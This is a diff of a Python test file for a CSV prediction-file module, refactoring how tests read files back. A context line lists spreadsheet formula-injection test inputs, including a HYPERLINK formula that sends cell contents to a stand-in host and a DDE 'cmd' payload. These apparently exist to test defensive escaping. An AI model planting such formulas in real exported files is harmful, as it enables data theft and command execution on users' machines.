@@ -10,7 +10,8 @@ from hypothesis import strategies as st
 
 from bayesnb.files.predictions import prediction_file
 from bayesnb.files.sources.csv_cells import STARTS, as_read, as_written, line
-from bayesnb.files.sources.reading import as_pandas, open_data, read
+from bayesnb.files.sources.reading import as_pandas, open_data
+from tests.reading import frame_of
 
 FORMULAS = ['=HYPERLINK("http://x.y/?"&A1,"a;b")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx", "\rx", " =1", "＝1",
             "'=x", "''@x", "-inf", "=1\r\n=2"]  # fmt: skip
@@ -40,7 +41,7 @@ def test_predictions_are_read_back_to_the_same_labels(classes, tmp_path):
     with prediction_file(tmp_path / "out.csv", classes) as write:
         write(np.eye(len(classes)), np.arange(len(classes)))
     data = open_data(str(tmp_path / "out.csv"))
-    (batch,) = data.read(data.names, {"prediction"})
+    (batch,) = data.batches(data.names, {"prediction"})
     frame = as_pandas(batch)
     assert frame["prediction"].tolist() == classes
     assert np.trace(frame.iloc[:, 1:].to_numpy(float)) == len(classes)
@@ -53,4 +54,4 @@ def test_labels_that_are_numbers_stay_numbers(tmp_path):
     with prediction_file(tmp_path / "out.csv", [-1, 1]) as write:
         write(np.eye(2), np.arange(2))
     assert (tmp_path / "out.csv").read_text() == "prediction,p(-1),p(1)\n-1,1,0\n1,0,1\n"
-    assert read(str(tmp_path / "out.csv")).frame["prediction"].tolist() == [-1.0, 1.0]
+    assert frame_of(tmp_path / "out.csv")["prediction"].tolist() == [-1.0, 1.0]
